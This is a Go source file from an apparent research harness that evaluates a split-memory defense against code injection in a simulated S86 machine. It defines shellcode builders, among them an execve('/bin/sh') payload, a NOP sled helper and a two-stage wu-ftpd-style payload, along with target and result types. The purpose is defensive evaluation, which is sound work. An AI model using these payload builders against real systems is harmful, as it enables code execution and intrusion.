// Package attacks implements the paper's effectiveness evaluation (§6.1):
// a Wilander & Kamkar-style buffer-overflow benchmark extended to inject
// code into the data, bss, heap and stack segments (Table 1), five
// real-world-style vulnerable servers with working exploits (Table 2), the
// response-mode demonstration against the wu-ftpd scenario (Fig. 5), and
// the mprotect-based NX-bypass attack that motivates the work (§2).
//
// Every attack is a real code injection: S86 machine code is delivered to
// a vulnerable guest program over its simulated socket, a memory-corruption
// bug redirects control to it, and the outcome depends solely on the
// machine's memory architecture.
package attacks

import (
	"encoding/binary"
	"fmt"
	"strings"

	"splitmem"
	"splitmem/internal/guest"
)

// Result classifies one attack run.
type Result struct {
	ShellSpawned bool // attacker got a shell (attack succeeded)
	Detected     bool // protection engine logged an injection
	Killed       bool // process died on a signal
	Signal       splitmem.Signal
	Exited       bool // process exited voluntarily
	Status       int
	FaultAddr    uint32 // faulting address when killed
	Survived     bool   // program reported normal completion
	Output       string // captured stdout
	Notes        string

	// Full-fidelity run record, for determinism and robustness assertions.
	EventsJSONL         []byte         // the entire kernel event log, rendered
	Stats               splitmem.Stats // final machine/engine counters
	InvariantViolations int            // EvInvariantViolation count (Paranoid runs)
}

// Succeeded reports whether the attacker achieved code execution.
func (r Result) Succeeded() bool { return r.ShellSpawned }

// Foiled reports whether the attack was stopped (no shell).
func (r Result) Foiled() bool { return !r.ShellSpawned }

// String summarizes the result the way the paper's tables do.
func (r Result) String() string {
	switch {
	case r.ShellSpawned:
		return "root shell"
	case r.Detected && r.Killed:
		return fmt.Sprintf("foiled (detected, %v)", r.Signal)
	case r.Killed:
		return fmt.Sprintf("foiled (%v)", r.Signal)
	case r.Survived:
		return "no effect"
	default:
		return "foiled"
	}
}

// Target wraps a machine and a victim process and drives the attacker side
// of the conversation.
type Target struct {
	M *splitmem.Machine
	P *splitmem.Process

	budget uint64
}

// NewTarget boots a machine with cfg and spawns the victim program (CRT is
// appended automatically).
func NewTarget(cfg splitmem.Config, src, name string) (*Target, error) {
	prog, err := splitmem.Assemble(guest.WithCRT(src))
	if err != nil {
		return nil, fmt.Errorf("assemble %s: %w", name, err)
	}
	return newTarget(cfg, prog, name)
}

// newTarget boots a machine with cfg and spawns the assembled victim.
func newTarget(cfg splitmem.Config, prog *splitmem.Program, name string) (*Target, error) {
	if cfg.PhysBytes == 0 {
		// Victim processes are small; a 16 MiB machine keeps the big attack
		// grids cheap even with every page twinned.
		cfg.PhysBytes = 16 << 20
	}
	m, err := splitmem.New(cfg)
	if err != nil {
		return nil, err
	}
	p, err := m.LoadProgram(prog, name)
	if err != nil {
		return nil, fmt.Errorf("load %s: %w", name, err)
	}
	return &Target{M: m, P: p, budget: 200_000_000}, nil
}

// Send injects bytes on the victim's stdin.
func (t *Target) Send(b []byte) { t.P.StdinWrite(b) }

// SendLine sends a protocol line.
func (t *Target) SendLine(s string) { t.P.StdinWrite([]byte(s + "\n")) }

// Close signals EOF on the victim's stdin.
func (t *Target) Close() { t.P.StdinClose() }

// Run drives the machine until it stops (all done / waiting for input).
func (t *Target) Run() splitmem.RunResult { return t.M.Run(t.budget) }

// WaitOutput runs until the victim's accumulated stdout contains substr or
// the victim stops producing output. It returns the full drained output.
func (t *Target) WaitOutput(substr string) (string, bool) {
	var out strings.Builder
	for i := 0; i < 64; i++ {
		t.M.Run(t.budget)
		out.Write(t.P.StdoutDrain())
		if strings.Contains(out.String(), substr) {
			return out.String(), true
		}
		if !t.P.Alive() {
			return out.String(), strings.Contains(out.String(), substr)
		}
		if len(t.P.StdoutPeek()) == 0 {
			// Blocked waiting for us with nothing new: give up.
			break
		}
	}
	return out.String(), strings.Contains(out.String(), substr)
}

// Result inspects the final state.
func (t *Target) Result() Result {
	r := Result{ShellSpawned: t.P.ShellSpawned()}
	r.Detected = len(t.M.EventsOf(splitmem.EvInjectionDetected)) > 0
	r.Killed, r.Signal = t.P.Killed()
	r.Exited, r.Status = t.P.Exited()
	r.FaultAddr = t.P.FaultAddr()
	r.Output = string(t.P.StdoutDrain())
	r.Survived = strings.Contains(r.Output, "SURVIVED")
	r.EventsJSONL, _ = t.M.EventsJSONL()
	r.Stats = t.M.Stats()
	r.InvariantViolations = len(t.M.EventsOf(splitmem.EvInvariantViolation))
	return r
}

// Shellcode builders -------------------------------------------------------

// ExecveShellcode builds an execve("/bin/sh") payload positioned at addr
// (the path string is embedded and addressed absolutely, as real shellcode
// does).
func ExecveShellcode(addr uint32) []byte {
	code := []byte{
		0xBB, 0, 0, 0, 0, // mov ebx, path
		0xB8, 11, 0, 0, 0, // mov eax, SYS_EXECVE
		0xCD, 0x80, // int 0x80
	}
	binary.LittleEndian.PutUint32(code[1:], addr+uint32(len(code)))
	return append(code, []byte("/bin/sh\x00")...)
}

// NopSled prepends n NOP bytes (0x90, identical on x86 and S86) to sc.
func NopSled(n int, sc []byte) []byte {
	out := make([]byte, n, n+len(sc))
	for i := range out {
		out[i] = 0x90
	}
	return append(out, sc...)
}

// TwoStageShellcode builds the wu-ftpd-style two-stage payload at addr
// (§6.1.3 / Fig. 5): stage one starts with a jmp over the 8-byte region
// that the heap unlink clobbers, writes the 4-byte success cookie back to
// the attacker, reads the second stage (up to 128 bytes) into a scratch
// area after itself, and jumps to it.
func TwoStageShellcode(addr uint32, cookie string) []byte {
	if len(cookie) != 4 {
		panic("cookie must be 4 bytes")
	}
	scratch := addr + 96 // stage-two landing area
	src := fmt.Sprintf(`
.text %#x
    jmp stage1            ; skip the 8 bytes unlink will clobber
    .space 12, 0x90
stage1:
    ; write(1, cookie, 4)
    mov ebx, 1
    mov ecx, cookiestr
    mov edx, 4
    mov eax, 4
    int 0x80
    ; read(0, scratch, 128)
    mov ebx, 0
    mov ecx, %#x
    mov edx, 128
    mov eax, 3
    int 0x80
    mov ecx, %#x
    jmp ecx
cookiestr: .ascii "%s"
`, addr, scratch, scratch, cookie)
	prog, err := splitmem.Assemble(src)
	if err != nil {
		panic(fmt.Sprintf("two-stage shellcode: %v", err))
	}
	for i := range prog.Sections {
		if prog.Sections[i].Name == ".text" {
			return prog.Sections[i].Data
		}
	}
	panic("two-stage shellcode: no text section")
}

// le32 renders v little-endian.
func le32(v uint32) []byte {
	var b [4]byte
	binary.LittleEndian.PutUint32(b[:], v)
	return b[:]
}

// pad returns b extended with filler to length n.
func pad(b []byte, n int, fill byte) []byte {
	for len(b) < n {
		b = append(b, fill)
	}
	return b
}

// parseLeak extracts the 8-hex-digit address following marker in out.
func parseLeak(out, marker string) (uint32, error) {
	i := strings.Index(out, marker)
	if i < 0 {
		return 0, fmt.Errorf("no %q leak in output %q", marker, out)
	}
	hex := out[i+len(marker):]
	if len(hex) < 8 {
		return 0, fmt.Errorf("truncated leak in %q", out)
	}
	var v uint32
	for _, c := range hex[:8] {
		switch {
		case c >= '0' && c <= '9':
			v = v<<4 | uint32(c-'0')
		case c >= 'a' && c <= 'f':
			v = v<<4 | uint32(c-'a'+10)
		default:
			return 0, fmt.Errorf("bad leak digit %q in %q", c, out)
		}
	}
	return v, nil
}
